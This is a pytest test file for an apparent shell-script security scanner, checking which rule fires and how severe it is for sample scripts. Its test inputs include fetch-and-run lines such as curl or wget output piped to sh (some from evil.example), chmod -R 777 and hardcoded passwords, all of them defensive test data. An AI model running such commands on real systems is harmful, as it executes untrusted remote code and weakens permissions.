"""End-to-end analysis tests against the built-in rule catalog."""

import pytest

from shellaudit.engine import analyze
from shellaudit.models.rules import RuleCategory
from shellaudit.models.severity import Severity
from shellaudit.reporter.json_out import to_canonical_json


def _only(result):
    assert len(result.findings) == 1, [f.rule_id for f in result.findings]
    return result.findings[0]


class TestScenarios:
    """Reference scripts and their expected findings."""

    def test_eval_of_downloaded_script(self):
        """eval of a curl download is one CRITICAL RCE finding."""
        finding = _only(analyze('eval "$(curl http://evil.example/x | sh)"'))
        assert finding.severity is Severity.CRITICAL
        assert finding.category is RuleCategory.REMOTE_CODE_EXEC
        assert (finding.line, finding.column) == (1, 1)

    def test_hardcoded_password(self):
        """Literal password assignment is one MEDIUM leak."""
        finding = _only(analyze('PASSWORD="s3cr3t"'))
        assert finding.severity is Severity.MEDIUM
        assert finding.category is RuleCategory.CREDENTIAL_LEAK

    def test_world_writable_chmod(self):
        """chmod -R 777 is one HIGH permissions finding."""
        finding = _only(analyze("chmod -R 777 /var/app"))
        assert finding.severity is Severity.HIGH
        assert finding.category is RuleCategory.UNSAFE_PERMISSIONS

    def test_pipe_to_shell(self):
        """curl | bash over HTTPS is RCE001 only."""
        finding = _only(analyze("curl -fsSL https://get.example.com | bash"))
        assert finding.rule_id == "RCE001"

    def test_heredoc_body_is_scanned(self):
        """eval of a download inside a closed heredoc is one CRITICAL finding."""
        result = analyze('cat <<EOF\neval "$(curl http://x|sh)"\nEOF')
        finding = _only(result)
        assert finding.severity is Severity.CRITICAL
        assert finding.category is RuleCategory.REMOTE_CODE_EXEC
        assert finding.line == 2
        assert result.overall_score == 40

    def test_unterminated_heredoc_suppresses_matches(self):
        """Nothing is reported from a heredoc that never closes."""
        result = analyze("cat <<EOF\ncurl http://x/a.sh | sh\n")
        assert result.findings == ()
        assert result.overall_score == 0

    def test_plain_http_pipe_still_reported(self):
        """The transport rule still fires outside command substitution."""
        rule_ids = {f.rule_id for f in analyze("curl http://get.example/x | sh").findings}
        assert rule_ids == {"RCE001", "NET002"}


class TestRecursiveGrants:
    """Recursive chmod outside the filesystem root."""

    def test_recursive_grant_is_low(self):
        """chmod -R 755 on an app tree is one LOW finding."""
        finding = _only(analyze("chmod -R 755 /var/app"))
        assert finding.rule_id == "PERM005"
        assert finding.severity is Severity.LOW

    def test_symbolic_group_write(self):
        """chmod -R g+w is a recursive grant."""
        assert _only(analyze("chmod -R g+w shared/")).rule_id == "PERM005"

    def test_root_reported_by_root_rule_only(self):
        """chmod -R on / is PERM002, not PERM005."""
        assert _only(analyze("chmod -R 755 /")).rule_id == "PERM002"

    def test_non_recursive_mode_not_reported(self):
        """Plain chmod 755 is fine."""
        assert analyze("chmod 755 /usr/local/bin/tool").findings == ()


class TestSuppression:
    """No findings from inert text."""

    @pytest.mark.parametrize("script", [
        "# curl http://evil.example/x | sh",
        "echo 'curl http://evil.example/x | sh'",
        'echo "chmod 777 /tmp"',
        "ls  # PASSWORD=hunter2",
    ])
    def test_no_findings(self, script):
        """Comments and quoted strings are ignored."""
        assert analyze(script).findings == ()

    def test_password_in_heredoc_body_is_not_reported(self):
        """Credential rules skip heredoc bodies."""
        result = analyze("cat <<EOF > app.env\nPASSWORD=hunter2\nEOF\n")
        assert result.findings == ()

    def test_benign_script(self):
        """An ordinary install script is clean."""
        script = (
            "#!/bin/sh\n"
            "set -eu\n"
            'mkdir -p "$HOME/app"\n'
            'cp "$1" "$HOME/app/"\n'
            "chmod 755 \"$HOME/app\"\n"
        )
        result = analyze(script)
        assert result.findings == ()
        assert result.overall_score == 0


class TestResultProperties:
    """Invariants of every AnalysisResult."""

    SCRIPT = (
        "#!/bin/bash\n"
        "API_KEY=abc123\n"
        "curl -k https://internal.example/setup\n"
        "chmod 777 /srv/shared\n"
        "wget -qO- http://get.example/install.sh | sh\n"
        'eval "$1"\n'
    )

    def test_deterministic(self):
        """Same input, byte-identical JSON."""
        first = analyze(self.SCRIPT, script_name="x.sh")
        second = analyze(self.SCRIPT, script_name="x.sh")
        assert to_canonical_json(first) == to_canonical_json(second)

    def test_ordering(self):
        """Findings are sorted by severity then position."""
        findings = analyze(self.SCRIPT).findings
        keys = [(-f.severity.rank, f.line, f.column, f.rule_id) for f in findings]
        assert keys == sorted(keys)
        assert findings[0].severity is Severity.CRITICAL

    def test_score_bounded(self):
        """Score saturates at 100."""
        result = analyze(self.SCRIPT * 5)
        assert 0 <= result.overall_score <= 100
        assert result.overall_score == 100

    def test_counts_match_findings(self):
        """Summary counts add up to the finding total."""
        result = analyze(self.SCRIPT)
        assert sum(result.summary_counts.values()) == len(result.findings)

    def test_empty_input(self):
        """Empty script scores 0 with zero counts."""
        result = analyze("")
        assert result.findings == ()
        assert result.overall_score == 0
        assert result.summary_counts == {s: 0 for s in Severity}

    def test_script_name_echoed(self):
        """script_name is passed through."""
        assert analyze("ls", script_name="deploy.sh").script_name == "deploy.sh"

    def test_explicit_empty_rules(self):
        """An empty rule list finds nothing."""
        assert analyze(self.SCRIPT, rules=[]).findings == ()
